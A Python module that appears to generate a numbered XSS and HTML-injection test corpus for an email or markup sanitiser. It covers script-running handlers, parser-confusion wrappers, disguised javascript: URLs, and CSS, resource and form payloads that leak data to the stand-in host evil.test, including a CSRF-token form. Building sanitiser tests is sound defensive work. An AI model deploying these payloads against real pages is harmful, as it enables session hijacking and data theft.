"""Hostile HTML of our own: ways to run something, to send something, to fetch something, to break out of what shows it.

Written by families: what acts × the place in which a reader and a browser may disagree about it, disguises of an address × the
places that take one. Each payload says its own number, to `alert` or to evil.test, so that a hole is known by its name.
"""

from itertools import product

# What acts by itself, once it stands in a document.
CORES = ("<img src=x onerror=RUN>", "<svg onload=RUN>", "<script>RUN</script>")
# Where it hides: content of another language, of another namespace, of something that is only text, of something unfinished.
HIDING = """
<svg><desc>X</desc></svg>|<svg><foreignObject>X</foreignObject></svg>|<svg><title>X</title></svg>|<svg><style>X</style></svg>|<math><mtext>X</mtext></math>|
<math><annotation-xml encoding="text/html">X</annotation-xml></math>|<math><mi><mglyph>X</mglyph></mi></math>|<math><mtext><table><mglyph><style>X</style></mglyph></table></mtext></math>|
<svg></p><style><a id="</style>X"></style></svg>|<noscript>X</noscript>|<noscript><p title="</noscript>X"></p>|<template>X</template>|<template><template></template>X</template>|
<style><p title="</style>X"></style>|<title><p title="</title>X"></p>|<textarea><p title="</textarea>X"></p>|<xmp><p title="</xmp>X"></p>|<iframe><p title="</iframe>X"></p>|
<noembed><p title="</noembed>X"></p>|<noframes><p title="</noframes>X"></p>|<select><option>X</select>|<select><template>X</template></select>|<table><tr>X<td></table>|
<table><caption><svg>X</svg></caption></table>|<!-->X-->|<!--->X-->|<!-- --!>X-->|<!--x--><!-->X<!---->|<![CDATA[X]]>|<svg><![CDATA[<p title="]]>X"></svg>|
<?xml version="1.0"?>X|<!DOCTYPE x [<!ENTITY y "X">]>|<form><math><mtext></form><form><mglyph><style></math>X</style>|<a title="X">x</a>|<a title='">X'>x</a>|<p id=`"X`>x</p>|
<button><p><button>X</button>|<p><object><p>X</object></p>|<dl><dt><li>X</dl>|<frameset>X</frameset>|<h1><p></h1>X|<b><i></b>X</i>|<ruby><rt>X</ruby>|</br>X|<x:y>X</x:y>|<x-y is=z>X</x-y>|
"""  # noqa: E501
# Handlers that need nobody's hand, and how an attribute may be written.
HANDLERS = """
<body onload=RUN>|<input autofocus onfocus=RUN>|<details open ontoggle=RUN>x</details>|<video><source onerror=RUN></video>|<audio src=x onerror=RUN></audio>|<marquee onstart=RUN>x</marquee>|
<iframe onload=RUN></iframe>|<style onload=RUN></style>|<object data=x onerror=RUN></object>|<link rel=stylesheet href=data:, onload=RUN>|<embed src=x onerror=RUN>|<input type=image src=x onerror=RUN>|
<select autofocus onfocus=RUN></select>|<a autofocus tabindex=1 onfocus=RUN>x</a>|<xss style="animation:s" onanimationstart=RUN></xss><style>@keyframes s{}</style>|<p popover ontoggle=RUN>x</p>|
<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>|<svg><animate onbegin=RUN attributeName=x dur=1s></svg>|<svg><set onbegin=RUN attributename=x></svg>|
<svg><image href=x onerror=RUN /></svg>|<svg><a><animateTransform onbegin=RUN attributeName=transform dur=1s /></a></svg>|<p onpointerrawupdate=RUN style="position:fixed;inset:0">x</p>|
<p tabindex=1 onfocusin=RUN autofocus>x</p>|<textarea autofocus onfocus=RUN></textarea>|<keygen autofocus onfocus=RUN>|<p contenteditable autofocus onbeforeinput=RUN onfocus=RUN>x</p>|
<img/src="x"/onerror="RUN">|<IMG SRC=x OnErRoR=RUN>|<img src=x onerror
=
RUN>|<svg/onload=RUN></svg>|<svg onload=RUN//</svg>|<img src=x onerror=&#x61;lert(1)>|<img src=x onerror="al\\u0065rt(1)">|<img src=x:x onerror=RUN>|<img src onerror=RUN>|
<img src=x onerror=RUN onerror=1>|<img title="x"onerror=RUN src=x>|<img src='x'"onerror=RUN>|<img src=x \x0conerror=RUN>|<img src=x \x00onerror=RUN>|<img \xa0src=x onerror=RUN>|<img src="x` `onerror=RUN">|
<<img src=x onerror=RUN>|<img src=x onerror=RUN |<img src="x>" onerror="RUN">|<\x00img src=x onerror=RUN>|<i\x00mg src=x onerror=RUN>|<%00img src=x onerror=RUN>|＜img src=x onerror=RUN＞|
<scr<script>ipt>RUN</scr</script>ipt>|<script src=//FAR.js></script>|<svg><script>RUN</script></svg>|<svg><script href=data:text/javascript,RUN /></svg>|<svg><script>&#97;lert(1)</script></svg>|
<script type=module>RUN</script>|<script\x0c>RUN</script>|<script/x>RUN</script>|<SCRIPT>RUN</SCRIPT>|<script>RUN<!--</script>|</script><script>RUN</script>|<script async src=data:text/javascript,RUN></script>|
<script type=text/x-handlebars>{{RUN}}</script>|{{constructor.constructor('RUN')()}}|${RUN}|<p x-data x-init=RUN>x</p>|<p hx-on::load=RUN hx-get=//FAR hx-trigger=load>x</p>|<p data-hx-get=//FAR data-hx-trigger=load>x</p>|
+ADw-script+AD4-RUN+ADw-/script+AD4-|\x1b$B<script>RUN</script>\x1b(B|%3Cscript%3ERUN%3C/script%3E|&lt;script&gt;RUN&lt;/script&gt;|&amp;lt;img src=x onerror=RUN&amp;gt;|&#60;script&#62;RUN&#60;/script&#62;|
"""  # noqa: E501
# An address that runs what it says, in disguises; and the places that follow an address by themselves or when somebody presses.
SCRIPTS = """
javascript:RUN|JaVaScRiPt:RUN|java&Tab;script:RUN|java&NewLine;script:RUN|java&#10;script:RUN|&#14;javascript:RUN|&#x1;javascript:RUN| javascript:RUN|javascript&colon;RUN|&#106avascript:RUN|
javascript://x%0aRUN|data:text/html,<script>RUN</script>|data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==|data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>|vbscript:RUN|
"""  # noqa: E501
PLACES = """
<a href="ADDRESS">x</a>|<iframe src="ADDRESS"></iframe>|<embed src="ADDRESS">|<object data="ADDRESS"></object>|<form action="ADDRESS"><button>x</button></form>|<meta http-equiv=refresh content="0;url=ADDRESS">|
<svg><a xlink:href="ADDRESS"><text>x</text></a></svg>|<math href="ADDRESS">x</math>|<button form=f formaction="ADDRESS">x</button>|<area href="ADDRESS">|<img src="ADDRESS">|<svg><use href="ADDRESS"/></svg>|
<svg><a><animate attributeName=href values="ADDRESS"/><text>x</text></a></svg>|<svg><a><set attributeName=href to="ADDRESS"/><text>x</text></a></svg>|<base href="ADDRESS">|<frameset><frame src="ADDRESS"></frameset>|
"""  # noqa: E501
# A foreign address, and the places that ask it as soon as they are drawn.
FOREIGN = (
    "http://FAR",
    "//FAR",
    "http:/FAR",
    "\\\\FAR",
    "&#104;ttp://FAR",
    "ht\ntp://FAR",
    "http:\\\\FAR",
    "https://FAR",
)
ASKING = """
<img src="ADDRESS">|<img srcset="ADDRESS 1x">|<picture><source srcset="ADDRESS"><img></picture>|<body background="ADDRESS">|<table background="ADDRESS"><td>x</table>|<video poster="ADDRESS"></video>|
<audio autoplay src="ADDRESS"></audio>|<video><track default src="ADDRESS"></video>|<object data="ADDRESS"></object>|<embed src="ADDRESS">|<iframe src="ADDRESS"></iframe>|<svg><image href="ADDRESS"/></svg>|
<svg><use href="ADDRESS#a"/></svg>|<svg><feImage href="ADDRESS"/></svg>|<input type=image src="ADDRESS">|<link rel=stylesheet href="ADDRESS">|<link rel=icon href="ADDRESS">|<meta http-equiv=refresh content="0;url=ADDRESS">|
<p style="background:url(ADDRESS)">x</p>|<style>@import "ADDRESS";</style>|
"""  # noqa: E501
ONCE = """
<link rel=preload as=image href=//FAR>|<link rel=prefetch href=//FAR>|<link rel=modulepreload href=//FAR>|<link rel=preconnect href=//FAR>|<link rel=dns-prefetch href=//FAR>|<link rel=manifest href=//FAR>|
<link rel=prerender href=//FAR>|<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://FAR'/></svg>">|<iframe srcdoc="<img src=http://FAR>"></iframe>|<iframe srcdoc="<script>parent.RUN</script>"></iframe>|
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>|<a ping=http://FAR href=#>x</a>|<portal src=http://FAR></portal>|<html manifest=//FAR>|<svg><style>@import url(//FAR)</style></svg>|<p style="background:image-set('//FAR' 1x)">x</p>|
<p style="list-style:url('http://FAR')">x</p>|<p style="cursor:url(http://FAR),auto">x</p>|<p style="content:url(http://FAR)">x</p>|<p style="border-image:url(//FAR)">x</p>|<p style="filter:url(//FAR#f)">x</p>|
<p style="background:\\75rl(//FAR)">x</p>|<p style="background:u/**/rl(//FAR)">x</p>|<p style="width:expression(RUN)">x</p>|<p style="behavior:url(//FAR)">x</p>|<p style="-moz-binding:url(//FAR#x)">x</p>|
<style>*{background:url(//FAR)}</style>|<style>@font-face{font-family:x;src:url(//FAR)}*{font-family:x}</style>|<style>p[title^=a]{background:url(//FAR)}</style><p title=a>x</p>|<style>@\\69mport '//FAR';</style>|
<style>p::after{content:url(//FAR)}</style>|<style media=all>@media all{*{mask-image:url(//FAR)}}</style>|<style>input[value^="a"]{background:url(//FAR)}</style><input value=a>|<svg fill="url(//FAR#a)"><rect/></svg>|
<form action=//FAR><input name=csrfmiddlewaretoken autofocus></form>|<form id=f action=//FAR></form><button form=f>x</button>|<base href=//FAR/>|<base target=_parent>|<meta name=referrer content=unsafe-url>|
<meta http-equiv=Content-Security-Policy content="default-src *">|<meta http-equiv=set-cookie content="a=b">|<form name=body><input name=parentNode></form>|<img name=getElementById>|<a id=location href=//FAR>x</a>|
<p class="fixed inset-0" id=csrfmiddlewaretoken name=body autofocus>x</p>|<img src='//FAR?a=|<textarea name=x form=f autofocus>|<plaintext><img src=x onerror=RUN>|<style>p{|<!-- <img src=x onerror=RUN>|
"""  # noqa: E501
# Markdown and plain words that a page makes links and pictures of.
WORDS = """
[x](javascript:RUN)|[x](java\tscript:RUN)|[x](JaVaScRiPt:RUN)|[x](data:text/html,<script>RUN</script>)|![x](http://FAR)|![x](//FAR)|![x" onerror="RUN](/help/pictures/1/)|[x](http://FAR" onmouseover="RUN)|
![x](/help/pictures/1/" onerror="RUN)|[x](<javascript:RUN>)|<javascript:RUN>|[x]: javascript:RUN|[x](//FAR)|http://FAR/"onmouseover="RUN|http://FAR/<script>RUN</script>|https://FAR/'><svg onload=RUN>|
`<img src=x onerror=RUN>`|```html"onload="RUN|# <img src=x onerror=RUN>|- <svg onload=RUN>|> <script>RUN</script>|\\<img src=x onerror=RUN>|&lt;img src=x onerror=RUN>|javascript:RUN|www.FAR"onclick="RUN|
"""  # noqa: E501


def written() -> list[str]:
    """Return all of them, each with its number."""
    rows = [place.replace("X", core) for place, core in product(_rows(HIDING), CORES)]
    rows += _rows(HANDLERS) + _rows(ONCE) + _rows(WORDS)
    rows += [place.replace("ADDRESS", script) for place, script in product(_rows(PLACES), _rows(SCRIPTS))]
    rows += [place.replace("ADDRESS", far) for place, far in product(_rows(ASKING), FOREIGN)]
    return [
        row.replace("RUN", f"alert({number})").replace("FAR", f"evil.test/{number}")
        for number, row in enumerate(dict.fromkeys(rows), 1000)
    ]


def everywhere(payload: str) -> str:
    """The payload in the body, in the signature and in what is quoted."""
    return f"{payload}<div class=gmail_signature>{payload}</div><blockquote type=cite>{payload}</blockquote>"


def _rows(block: str) -> list[str]:
    """Split a block at its bars, of which one ends each line: a payload may hold a line end."""
    return [row for piece in block.split("|") if (row := piece.removeprefix("\n"))]


ENDLESS = "<plaintext>"  # hides whatever stands behind it
CLOSING = "\"'>--></style></script></title></textarea></noscript></template></xmp></iframe></noembed></noframes></select></math></svg></table></form>"  # noqa: E501


def together(payloads: list[str], size: int = 20) -> list[str]:
    """Return documents of several payloads each; what one leaves open is closed before the next.

    Of those that act alone, this hides one of twelve: what leads the whole page away, and frames of a frameset.
    """
    ordered = sorted(payloads, key=lambda payload: ENDLESS in payload)
    return [CLOSING.join(ordered[start : start + size]) for start in range(0, len(ordered), size)]


OWN = written()
